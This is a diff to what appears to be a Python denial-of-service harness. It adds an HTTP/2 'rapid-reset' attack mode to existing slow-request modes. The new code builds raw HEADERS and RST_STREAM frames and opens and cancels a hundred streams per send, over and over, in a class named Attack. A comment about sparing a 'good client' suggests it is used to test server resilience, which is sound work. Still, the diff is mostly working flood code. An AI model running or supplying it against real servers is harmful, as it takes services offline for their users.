@@ -28,8 +28,23 @@ KINDS = {
     "endless-extension": (CHUNKED + b"1;", b"a" * 1024, 20),
     "endless-trailers": (CHUNKED + b"0\r\n", b"X-Trailer: " + b"a" * 1011 + b"\r\n", 20),
 }
+# HTTP/2: a client that says no more than it must, and then begins streams and resets them, so many at once.
+H2_OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04" + bytes(5)
+KINDS["rapid-reset"] = (H2_OPENING, b"resets", 200)
+RESETS_AT_ONCE = 100
 CONNECTS_PER_S = 2000
 REOPENED_PER_S = 20  # more would take the core from the good client
+
+
+def resets(first: int) -> bytes:
+    """Streams from this one on, each begun with GET / and reset at once."""
+    head = bytes([0x82, 0x86, 0x84, 0x41, 1]) + b"x"
+    out = b""
+    for stream in range(first, first + 2 * RESETS_AT_ONCE, 2):
+        number = stream.to_bytes(4, "big")
+        out += len(head).to_bytes(3, "big") + b"\x01\x05" + number + head
+        out += b"\x00\x00\x04\x03\x00" + number + b"\x00\x00\x00\x08"
+    return out
 
 
 class Attack:
@@ -79,7 +94,7 @@ class Attack:
         except OSError:
             got = b""
         if got:
-            self.answers[got[9:12].decode() if len(got) > 12 else "a byte"] += 1
+            self.answers["frames" if self.kind == "rapid-reset" else got[9:12].decode() if len(got) > 12 else "a byte"] += 1
             return
         del self.by_fd[sock.fileno()]
         sock.close()
@@ -93,8 +108,13 @@ class Attack:
             return
         if not self.piece:
             return self.hear(number)
+        piece = self.piece
+        if self.kind == "rapid-reset":
+            # Each piece has the same length, so the number of streams follows from what was sent.
+            done = (self.sent[number] - len(self.opening)) // len(resets(1))
+            piece = resets(1 + 2 * RESETS_AT_ONCE * done)
         try:
-            self.sent[number] += sock.send(self.piece)
+            self.sent[number] += sock.send(piece)
         except OSError:
             return  # full, or closed: poll tells
         self.most = max(self.most, self.sent[number])
